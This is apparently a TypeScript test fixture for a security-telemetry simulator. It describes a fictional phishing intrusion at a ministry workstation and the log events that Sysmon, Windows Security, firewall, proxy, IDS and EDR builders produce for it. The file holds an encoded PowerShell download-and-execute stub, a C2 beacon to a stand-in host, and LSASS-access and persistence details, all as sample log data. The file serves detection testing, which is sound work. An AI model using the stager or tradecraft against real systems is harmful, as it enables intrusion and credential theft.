/**
 * Realistic facts for telemetry tests: one ministry workstation, its user, a process tree
 * (explorer → WINWORD → powershell), a logon, a C2 connection, its DNS lookup and request,
 * a phishing mail, and the devices that log them. Plus `BUILDER_CASES`: every builder
 * called once on these facts, the table the ECS, golden and shape tests run over.
 */
import type { EcsEvent } from '@kunren/domain';
import * as t from '../src/telemetry/index.js';
import type {
  ConnectionFacts,
  DeviceFacts,
  DnsFacts,
  EventMeta,
  HostFacts,
  HttpFacts,
  LogonFacts,
  MailFacts,
  ProcessFacts,
  UserFacts,
} from '../src/telemetry/index.js';

/** 2026-03-09T00:00:00.000Z, the scenario start of the fixtures. */
export const START_MS = Date.UTC(2026, 2, 9);

/** A meta at `simMs` with the given id and record number. */
export function meta(id: string, simMs = 3_723_456, recordId?: number): EventMeta {
  return recordId === undefined
    ? { id, simMs, startMs: START_MS }
    : { id, simMs, startMs: START_MS, recordId };
}

/** A Windows 10 workstation of the finance department. */
export const workstation: HostFacts = {
  name: 'ws-fin-012',
  fqdn: 'ws-fin-012.mofa.go.example',
  ip: '10.20.1.112',
  mac: '00-50-56-A1-3C-12',
  id: '5b3e6c2a-8f1d-4e7b-9a0c-2d4f6e8a1b3c',
  os: t.osFacts('windows-10'),
  domain: 'MOFA',
};

/** The domain controller. */
export const dc: HostFacts = {
  name: 'dc01',
  fqdn: 'dc01.mofa.go.example',
  ip: '10.10.0.10',
  os: t.osFacts('windows-server-2019'),
  domain: 'MOFA',
};

/** The public web server (Ubuntu, in the DMZ). */
export const webServer: HostFacts = {
  name: 'web01',
  fqdn: 'web01.mofa.go.example',
  ip: '172.16.0.20',
  os: t.osFacts('ubuntu-22.04'),
  domain: 'MOFA',
};

/** A standard user, owner of the workstation. */
export const alice: UserFacts = {
  name: 'tanaka.k',
  domain: 'MOFA',
  sid: 'S-1-5-21-3623811015-3361044348-30300820-1104',
  fullName: 'Kenji Tanaka',
  email: 'tanaka.k@mofa.go.example',
};

/** A domain administrator account. */
export const admin: UserFacts = {
  name: 'adm.sato',
  domain: 'MOFA',
  sid: 'S-1-5-21-3623811015-3361044348-30300820-1107',
  fullName: 'Yui Sato (admin)',
};

/** LocalSystem. */
export const system: UserFacts = { name: 'SYSTEM', domain: 'NT AUTHORITY', sid: 'S-1-5-18' };

/** The user’s shell. */
export const explorer: ProcessFacts = {
  pid: 4412,
  entityId: '{5b3e6c2a-1a2b-65ec-0b01-000000001200}',
  executable: 'C:\\Windows\\explorer.exe',
  name: 'explorer.exe',
  commandLine: 'C:\\Windows\\Explorer.EXE',
  args: ['C:\\Windows\\Explorer.EXE'],
  workingDirectory: 'C:\\Windows\\system32\\',
  hashes: {
    sha256: '8e4b2f2b4a5c3d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6',
    md5: '2a1e8f6b3c4d5e6f708192a3b4c5d6e7',
  },
  integrity: 'Medium',
  user: alice,
  logonId: '0x5a3f21',
  sessionId: 1,
};

/** Word opening the phishing attachment. */
export const winword: ProcessFacts = {
  pid: 7316,
  entityId: '{5b3e6c2a-1a2b-65ec-3c02-000000001200}',
  executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  name: 'WINWORD.EXE',
  commandLine:
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\tanaka.k\\Downloads\\Invitation_2026.doc" /o ""',
  args: [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '/n',
    'C:\\Users\\tanaka.k\\Downloads\\Invitation_2026.doc',
    '/o',
    '',
  ],
  workingDirectory: 'C:\\Users\\tanaka.k\\Downloads\\',
  hashes: {
    sha256: '1d3f5a7b9c2e4f6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a',
    md5: '4f2a6c8e0b1d3f5a7c9e1b3d5f7a9c1e',
  },
  integrity: 'Medium',
  user: alice,
  logonId: '0x5a3f21',
  sessionId: 1,
  parent: explorer,
  pe: {
    originalFileName: 'WinWord.exe',
    description: 'Microsoft Word',
    product: 'Microsoft Office',
    company: 'Microsoft Corporation',
    fileVersion: '16.0.17628.20144',
  },
};

/** The stager Word starts (hashes and PE facts as Sysmon reports them). */
export const powershell: ProcessFacts = {
  pid: 8120,
  entityId: '{5b3e6c2a-1a2c-65ec-7d02-000000001200}',
  executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  name: 'powershell.exe',
  commandLine:
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  args: [
    'powershell.exe',
    '-nop',
    '-w',
    'hidden',
    '-enc',
    'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  ],
  workingDirectory: 'C:\\Users\\tanaka.k\\Downloads\\',
  hashes: {
    sha256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
    sha1: '6cbce4a295c163791b60fc23d285e6d84f28ee4c',
    md5: '7353f60b1739074eb17c5f4dddefe239',
    imphash: 'f2c0e8a5bd10dbc167455484050cd683',
  },
  integrity: 'Medium',
  user: alice,
  logonId: '0x5a3f21',
  logonGuid: '{5b3e6c2a-1a20-65ec-213f-5a0000000000}',
  sessionId: 1,
  parent: winword,
  pe: {
    originalFileName: 'PowerShell.EXE',
    description: 'Windows PowerShell',
    product: 'Microsoft® Windows® Operating System',
    company: 'Microsoft Corporation',
    fileVersion: '10.0.19041.3996 (WinBuild.160101.0800)',
  },
};

/** lsass.exe (as a credential-dumping target). */
export const lsass: ProcessFacts = {
  pid: 748,
  entityId: '{5b3e6c2a-0f10-65ec-0c00-000000001200}',
  executable: 'C:\\Windows\\system32\\lsass.exe',
  name: 'lsass.exe',
  commandLine: 'C:\\Windows\\system32\\lsass.exe',
  args: ['C:\\Windows\\system32\\lsass.exe'],
  workingDirectory: 'C:\\Windows\\system32\\',
  hashes: { sha256: 'a4b1c2d3e4f5061728394a5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f9' },
  integrity: 'System',
  user: system,
  logonId: '0x3e7',
};

/** The user’s interactive logon session. */
export const interactiveLogon: LogonFacts = {
  logonId: '0x5a3f21',
  type: 2,
  authPackage: 'Negotiate',
  logonProcess: 'User32',
  sourceHost: 'WS-FIN-012',
  sourceIp: '127.0.0.1',
  sourcePort: 0,
  elevated: false,
  logonGuid: '{5b3e6c2a-1a20-65ec-213f-5a0000000000}',
  process: { pid: 652, executable: 'C:\\Windows\\System32\\svchost.exe' },
};

/** The admin’s Kerberos network logon to the DC. */
export const networkLogon: LogonFacts = {
  logonId: '0x1c2d3e4',
  type: 3,
  authPackage: 'Kerberos',
  logonProcess: 'Kerberos',
  sourceHost: '-',
  sourceIp: '10.20.1.112',
  sourcePort: 50112,
  elevated: true,
  logonGuid: '{a1b2c3d4-e5f6-0718-293a-4b5c6d7e8f90}',
};

/** The outbound HTTPS connection to the C2 server, through NAT. */
export const c2Connection: ConnectionFacts = {
  sourceIp: '10.20.1.112',
  sourcePort: 50231,
  destinationIp: '203.0.113.45',
  destinationPort: 443,
  transport: 'tcp',
  protocol: 'tls',
  domain: 'cdn-update.example.net',
  bytesOut: 1840,
  bytesIn: 5231,
  packetsOut: 9,
  packetsIn: 8,
  direction: 'outbound',
  durationMs: 412,
  action: 'allowed',
  natIp: '198.51.100.10',
  natPort: 40231,
  communityId: '1:LQU9qZlK+B5F3KDmev6m5PMibrg=',
};

/** The lookup of the C2 domain (a CNAME, then an A record). */
export const dnsLookup: DnsFacts = {
  question: 'cdn-update.example.net',
  type: 'A',
  answers: [
    { type: 'CNAME', data: 'edge-7.cdn-update.example.net', ttl: 300 },
    { type: 'A', data: '203.0.113.45', ttl: 60 },
  ],
  responseCode: 'NOERROR',
  transactionId: 40312,
  clientIp: '10.20.1.112',
  clientPort: 58213,
  resolverIp: '10.10.0.10',
  rttMs: 23,
};

/** A C2 check-in through the proxy. */
export const beacon: HttpFacts = {
  method: 'GET',
  url: 'https://cdn-update.example.net/api/v2/status?id=7f3a',
  scheme: 'https',
  domain: 'cdn-update.example.net',
  port: 443,
  path: '/api/v2/status',
  query: 'id=7f3a',
  status: 200,
  userAgent:
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  requestBytes: 412,
  responseBytes: 1288,
  mimeType: 'application/json',
  category: 'Newly Registered Domain',
  action: 'allowed',
  clientIp: '10.20.1.112',
  clientPort: 50231,
  serverIp: '203.0.113.45',
  user: 'tanaka.k',
  durationMs: 180,
};

/** A scanner’s request to the public web server. */
export const webProbe: HttpFacts = {
  method: 'GET',
  url: 'https://www.mofa.go.example/wp-login.php',
  scheme: 'https',
  domain: 'www.mofa.go.example',
  port: 443,
  path: '/wp-login.php',
  status: 404,
  userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  requestBytes: 180,
  responseBytes: 153,
  action: 'allowed',
  clientIp: '192.0.2.77',
  clientPort: 61022,
  serverIp: '172.16.0.20',
  durationMs: 3,
};

/** The spear-phishing mail. */
export const phish: MailFacts = {
  messageId: '<20260309010203.4F2A@mail.partner-embassy.example>',
  from: 'protocol@partner-embassy.example',
  to: ['tanaka.k@mofa.go.example'],
  subject: 'Invitation: bilateral consultation 2026',
  senderIp: '198.51.100.77',
  direction: 'inbound',
  attachments: [
    {
      name: 'Invitation_2026.doc',
      sha256: 'b7d1e5f3a9c2d4e6f8a0b2c4d6e8f0a1c3e5a7b9d1f3a5c7e9b1d3f5a7c9e1b3',
      size: 184320,
      mimeType: 'application/msword',
    },
  ],
  urls: ['https://partner-embassy.example/agenda'],
  verdict: 'delivered',
  reason: 'clean',
  sizeBytes: 251904,
};

/** The perimeter FortiGate. */
export const firewall: DeviceFacts = {
  name: 'fw01',
  ip: '10.0.0.1',
  product: 'FortiGate-100F',
  vendor: 'Fortinet',
  serial: 'FG100FTK21000123',
  version: '7.4.4',
};

/** The Squid web proxy. */
export const proxy: DeviceFacts = {
  name: 'proxy01',
  ip: '10.0.0.8',
  product: 'Squid',
  vendor: 'Squid',
  version: '6.6',
};

/** The mail gateway. */
export const mailGw: DeviceFacts = {
  name: 'esa01',
  ip: '172.16.0.25',
  product: 'Secure Email Gateway',
  vendor: 'Cisco',
};

/** One builder called on the fixtures: its name, expected dataset, and the record. */
export interface BuilderCase {
  readonly name: string;
  readonly dataset: string;
  readonly build: (m: EventMeta) => EcsEvent;
}

const group = {
  name: 'Domain Admins',
  domain: 'MOFA',
  sid: 'S-1-5-21-3623811015-3361044348-30300820-512',
};
const localAdmins = { name: 'Administrators', domain: 'Builtin', sid: 'S-1-5-32-544' };
const tgt = {
  user: alice,
  serviceName: 'krbtgt',
  serviceSid: 'S-1-5-21-3623811015-3361044348-30300820-502',
  clientIp: '10.20.1.112',
  clientPort: 50110,
  encryptionType: '0x12',
  ticketOptions: '0x40810010',
  status: '0x0',
  preAuthType: '2',
};

/** Every builder on the fixtures, one row each (the table the tests iterate). */
export const BUILDER_CASES: readonly BuilderCase[] = [
  {
    name: 'security4624',
    dataset: 'windows.security',
    build: (m) => t.security4624(m, workstation, alice, interactiveLogon),
  },
  {
    name: 'security4624-network',
    dataset: 'windows.security',
    build: (m) => t.security4624(m, dc, admin, networkLogon),
  },
  {
    name: 'security4625',
    dataset: 'windows.security',
    build: (m) => t.security4625(m, dc, admin, networkLogon, 'bad-password'),
  },
  {
    name: 'security4634',
    dataset: 'windows.security',
    build: (m) => t.security4634(m, workstation, alice, interactiveLogon),
  },
  {
    name: 'security4648',
    dataset: 'windows.security',
    build: (m) =>
      t.security4648(m, workstation, powershell, admin, 'fs01.mofa.go.example', '10.10.0.21'),
  },
  {
    name: 'security4672',
    dataset: 'windows.security',
    build: (m) => t.security4672(m, dc, admin, networkLogon),
  },
  {
    name: 'security4688',
    dataset: 'windows.security',
    build: (m) => t.security4688(m, workstation, powershell),
  },
  {
    name: 'security4697',
    dataset: 'windows.security',
    build: (m) =>
      t.security4697(m, workstation, admin, '0x1c2d3e4', {
        name: 'WinUpdSvc',
        fileName: '%SystemRoot%\\Temp\\wupd.exe',
        type: '0x10',
        startType: '2',
        account: 'LocalSystem',
      }),
  },
  {
    name: 'security4698',
    dataset: 'windows.security',
    build: (m) =>
      t.security4698(m, workstation, alice, '0x5a3f21', {
        name: '\\Microsoft\\Windows\\OneDriveSync',
        command: 'C:\\Users\\tanaka.k\\AppData\\Roaming\\sync.exe',
        arguments: '-q',
        author: 'MOFA\\tanaka.k',
      }),
  },
  {
    name: 'security4720',
    dataset: 'windows.security',
    build: (m) =>
      t.security4720(m, dc, admin, '0x1c2d3e4', {
        name: 'svc.backup2',
        domain: 'MOFA',
        sid: 'S-1-5-21-3623811015-3361044348-30300820-1142',
      }),
  },
  {
    name: 'security4728',
    dataset: 'windows.security',
    build: (m) => t.security4728(m, dc, admin, '0x1c2d3e4', alice, group),
  },
  {
    name: 'security4732',
    dataset: 'windows.security',
    build: (m) => t.security4732(m, workstation, admin, '0x1c2d3e4', alice, localAdmins),
  },
  { name: 'security4768', dataset: 'windows.security', build: (m) => t.security4768(m, dc, tgt) },
  {
    name: 'security4769',
    dataset: 'windows.security',
    build: (m) =>
      t.security4769(m, dc, {
        ...tgt,
        serviceName: 'cifs/fs01.mofa.go.example',
        serviceSid: 'S-1-5-21-3623811015-3361044348-30300820-1301',
        encryptionType: '0x17',
        ticketOptions: '0x40810000',
      }),
  },
  {
    name: 'security4771',
    dataset: 'windows.security',
    build: (m) =>
      t.security4771(m, dc, { ...tgt, serviceName: 'krbtgt/MOFA.GO.EXAMPLE', status: '0x18' }),
  },
  {
    name: 'security1102',
    dataset: 'windows.security',
    build: (m) => t.security1102(m, dc, admin, '0x1c2d3e4'),
  },
  {
    name: 'sysmon1',
    dataset: 'windows.sysmon_operational',
    build: (m) => t.sysmon1(m, workstation, powershell),
  },
  {
    name: 'sysmon3',
    dataset: 'windows.sysmon_operational',
    build: (m) => t.sysmon3(m, workstation, powershell, c2Connection, true),
  },
  {
    name: 'sysmon7',
    dataset: 'windows.sysmon_operational',
    build: (m) =>
      t.sysmon7(
        m,
        workstation,
        powershell,
        {
          path: 'C:\\Windows\\System32\\vaultcli.dll',
          name: 'vaultcli.dll',
          extension: 'dll',
          directory: 'C:\\Windows\\System32',
          hashes: { sha256: '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0' },
        },
        true,
        'Microsoft Windows',
      ),
  },
  {
    name: 'sysmon8',
    dataset: 'windows.sysmon_operational',
    build: (m) =>
      t.sysmon8(
        m,
        workstation,
        powershell,
        explorer,
        '0x00007FF8A1B20000',
        'C:\\Windows\\System32\\kernel32.dll',
      ),
  },
  {
    name: 'sysmon10',
    dataset: 'windows.sysmon_operational',
    build: (m) =>
      t.sysmon10(
        m,
        workstation,
        powershell,
        lsass,
        '0x1010',
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000000034A1B2C)',
      ),
  },
  {
    name: 'sysmon11',
    dataset: 'windows.sysmon_operational',
    build: (m) =>
      t.sysmon11(m, workstation, powershell, {
        path: 'C:\\Users\\tanaka.k\\AppData\\Local\\Temp\\upd.ps1',
        name: 'upd.ps1',
        extension: 'ps1',
        directory: 'C:\\Users\\tanaka.k\\AppData\\Local\\Temp',
      }),
  },
  {
    name: 'sysmon12',
    dataset: 'windows.sysmon_operational',
    build: (m) =>
      t.sysmon12(m, workstation, powershell, {
        hive: 'HKU',
        key: 'S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Classes\\ms-settings\\shell\\open\\command',
        action: 'CreateKey',
      }),
  },
  {
    name: 'sysmon13',
    dataset: 'windows.sysmon_operational',
    build: (m) =>
      t.sysmon13(m, workstation, powershell, {
        hive: 'HKU',
        key: 'S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        value: 'OneDriveSync',
        data: 'C:\\Users\\tanaka.k\\AppData\\Roaming\\sync.exe -q',
        action: 'SetValue',
      }),
  },
  {
    name: 'sysmon22',
    dataset: 'windows.sysmon_operational',
    build: (m) => t.sysmon22(m, workstation, powershell, dnsLookup),
  },
  { name: 'zeekDns', dataset: 'zeek.dns', build: (m) => t.zeekDns(m, 'sensor01', dnsLookup) },
  {
    name: 'zeekConnection',
    dataset: 'zeek.connection',
    build: (m) => t.zeekConnection(m, 'sensor01', c2Connection),
  },
  {
    name: 'zeekConnection-denied',
    dataset: 'zeek.connection',
    build: (m) =>
      t.zeekConnection(m, 'sensor01', { ...c2Connection, action: 'denied', rule: 'block-c2' }),
  },
  {
    name: 'firewallTraffic',
    dataset: 'fortinet_fortigate.log',
    build: (m) => t.firewallTraffic(m, firewall, c2Connection),
  },
  {
    name: 'firewallTraffic-denied',
    dataset: 'fortinet_fortigate.log',
    build: (m) =>
      t.firewallTraffic(m, firewall, { ...c2Connection, action: 'denied', rule: 'block-c2' }),
  },
  { name: 'proxyAccess', dataset: 'squid.log', build: (m) => t.proxyAccess(m, proxy, beacon) },
  {
    name: 'proxyAccess-denied',
    dataset: 'squid.log',
    build: (m) => t.proxyAccess(m, proxy, { ...beacon, action: 'denied' }),
  },
  {
    name: 'mailGateway',
    dataset: 'cisco_secure_email_gateway.log',
    build: (m) => t.mailGateway(m, mailGw, phish),
  },
  { name: 'webAccess', dataset: 'nginx.access', build: (m) => t.webAccess(m, webServer, webProbe) },
  {
    name: 'edrAlert',
    dataset: 'endpoint.alerts',
    build: (m) =>
      t.edrAlert(m, workstation, {
        ruleId: 'c3f5a4e2-9b1d-4c6e-8f0a-2b4d6e8f0a1c',
        ruleName: 'LSASS Memory Access by Unsigned Process',
        severity: 'high',
        riskScore: 73,
        technique: {
          id: 'T1003.001',
          name: 'LSASS Memory',
          tacticId: 'TA0006',
          tacticName: 'Credential Access',
        },
        process: powershell,
        action: 'detected',
      }),
  },
  {
    name: 'idsAlert',
    dataset: 'suricata.eve',
    build: (m) =>
      t.idsAlert(m, {
        signatureId: 2027865,
        signature: 'ET MALWARE Observed Cobalt Strike CnC Domain in TLS SNI',
        category: 'A Network Trojan was detected',
        severity: 1,
        connection: c2Connection,
        tlsSni: 'cdn-update.example.net',
        sensor: 'sensor01',
        flowId: 1_294_817_266_181_203,
        action: 'allowed',
      }),
  },
];
